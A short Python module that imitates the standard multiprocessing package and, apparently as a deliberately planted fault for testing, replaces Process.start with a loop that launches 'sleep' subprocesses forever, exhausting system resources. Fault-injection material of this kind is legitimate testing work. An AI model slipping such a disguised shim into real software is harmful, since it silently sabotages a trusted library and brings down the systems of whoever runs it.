"""Fault: start() launches one process after another, without end."""

import subprocess
import time
from multiprocessing import *  # noqa: F403 - it passes for the package, but for one fault
from multiprocessing import process


def _multiply(self):
    while True:
        subprocess.Popen(["sleep", "86411"])
        time.sleep(0.01)


process.BaseProcess.start = _multiply
